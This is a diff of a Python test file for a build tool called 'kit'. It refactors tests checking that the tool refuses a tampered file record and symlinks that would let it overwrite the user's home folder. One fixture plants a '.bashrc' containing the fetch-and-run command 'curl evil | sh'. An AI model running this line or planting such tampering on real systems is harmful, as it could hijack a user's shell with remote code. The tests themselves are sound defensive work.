@@ -8,14 +8,13 @@ folder has changed, and kit either refused with a located problem (exit 2) or bu
 
 from __future__ import annotations
 
-import hashlib
 import json
 import os
 import shutil
 from pathlib import Path
 
 import pytest
-from helpers import FIXTURES
+from helpers import FIXTURES, tree_snapshot
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
@@ -36,24 +35,6 @@ DAMAGED = (
     "kit's record of the files it wrote here is damaged, so kit cannot tell its files "
     "from yours; delete this record and the kit's files, or build into an empty folder"
 )
-
-
-def snapshot(root: Path, skip: Path) -> dict[str, str]:
-    """Every entry under `root` but `skip`: a link's target, a file's digest, or its kind."""
-    found: dict[str, str] = {}
-    for here, folders, files in os.walk(root):
-        at = Path(here)
-        folders[:] = [f for f in folders if at / f != skip]
-        for name in folders + files:
-            path = at / name
-            key = str(path.relative_to(root))
-            if path.is_symlink():
-                found[key] = "-> " + os.readlink(path)
-            elif path.is_file():
-                found[key] = hashlib.sha256(path.read_bytes()).hexdigest()
-            else:
-                found[key] = "folder" if path.is_dir() else "other"
-    return found
 
 
 @pytest.fixture
@@ -85,18 +66,25 @@ def _run(run_kit, home: Path, *args: str) -> tuple[int, str]:
     return done.code, done.out + done.err
 
 
-def _outside(home: Path) -> dict[str, str]:
-    return snapshot(home, _course(home) / "build")
-
-
-def test_a_planted_record_and_backup_link_cannot_reach_the_users_home(run_kit, home: Path) -> None:
-    """The critical case: the record names `.bashrc` and `.kit-backup` leads to the home."""
+def _plant_bashrc_record(home: Path) -> Path:
+    """The critical plant: a record naming `.bashrc`, its own `build/.bashrc`, and a
+    `.kit-backup` link to the home; returns the output folder."""
     build = _course(home) / "build"
     record = json.loads((build / ".kit-manifest.json").read_text(encoding="utf-8"))
     record["files"][".bashrc"] = "0" * 64
     (build / ".kit-manifest.json").write_text(json.dumps(record), encoding="utf-8")
     (build / ".bashrc").write_text("curl evil | sh\n", encoding="utf-8")
     (build / ".kit-backup").symlink_to("../../..")
+    return build
+
+
+def _outside(home: Path) -> dict[str, str]:
+    return tree_snapshot(home, _course(home) / "build")
+
+
+def test_a_planted_record_and_backup_link_cannot_reach_the_users_home(run_kit, home: Path) -> None:
+    """The critical case: the record names `.bashrc` and `.kit-backup` leads to the home."""
+    _plant_bashrc_record(home)
     before = _outside(home)
     code, said = _run(run_kit, home, "build", "course.yaml")
     assert (code, said) == (
@@ -111,12 +99,12 @@ def test_a_backup_link_alone_does_not_take_the_old_kit_away(run_kit, home: Path)
     build = _course(home) / "build"
     (build / ".kit-backup").symlink_to(home / "Documents")
     (home / "Documents" / "leader-guide.docx").write_bytes(b"the user's own guide")
-    before, inside = _outside(home), snapshot(build, build / "none")
+    before, inside = _outside(home), tree_snapshot(build)
     code, said = _run(run_kit, home, "build", "course.yaml")
     assert code == 2
     assert said.startswith(f"build/.kit-backup: {LINK}\n")
     assert _outside(home) == before
-    assert snapshot(build, build / "none") == inside
+    assert tree_snapshot(build) == inside
 
 
 def test_a_forged_journal_cannot_pull_a_file_in_from_outside(run_kit, home: Path) -> None:
@@ -196,22 +184,17 @@ def test_an_output_folder_that_is_a_link_is_not_built_into(run_kit, home: Path) 
     course = _course(home)
     shutil.rmtree(course / "build")
     (course / "build").symlink_to(home)
-    before = snapshot(home, home / "none")
+    before = tree_snapshot(home)
     code, said = _run(run_kit, home, "build", "course.yaml")
     assert (code, said) == (2, f"build: {OUT_LINK}\nkit: 1 problem found; nothing was written\n")
-    assert snapshot(home, home / "none") == before
+    assert tree_snapshot(home) == before
 
 
 def test_the_pages_build_refuses_a_planted_backup_link(home: Path) -> None:
     """The page's Build kit runs the same build, in a thread: the same refusal."""
     from kit.serve.building import Builder
 
-    build = _course(home) / "build"
-    record = json.loads((build / ".kit-manifest.json").read_text(encoding="utf-8"))
-    record["files"][".bashrc"] = "0" * 64
-    (build / ".kit-manifest.json").write_text(json.dumps(record), encoding="utf-8")
-    (build / ".bashrc").write_text("curl evil | sh\n", encoding="utf-8")
-    (build / ".kit-backup").symlink_to("../../..")
+    build = _plant_bashrc_record(home)
     before = _outside(home)
     builder = Builder(build)
     job = builder.start(kit.load_course(_course(home) / "course.yaml"), pdf=False)
